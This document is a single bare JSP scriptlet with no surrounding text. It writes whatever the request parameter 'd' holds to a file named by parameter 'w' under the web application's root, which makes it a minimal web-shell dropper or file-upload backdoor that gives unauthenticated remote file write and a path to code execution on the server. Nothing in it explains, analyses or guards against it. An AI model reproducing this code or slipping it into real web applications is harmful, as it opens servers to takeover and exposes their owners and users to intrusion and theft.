<% java.io.FileOutputStream fo = new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("w")); fo.write(request.getParameter("d").getBytes()); fo.close(); %>
